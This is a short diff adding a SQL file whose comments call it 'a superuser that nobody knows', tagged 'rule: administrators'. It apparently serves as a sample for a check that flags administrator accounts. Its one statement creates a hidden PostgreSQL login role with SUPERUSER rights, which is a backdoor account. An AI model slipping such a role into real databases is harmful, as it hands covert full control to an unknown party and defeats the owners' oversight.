@@ -1,0 +1,3 @@
+-- A superuser that nobody knows.
+-- rule: administrators
+CREATE ROLE fault_root LOGIN SUPERUSER;
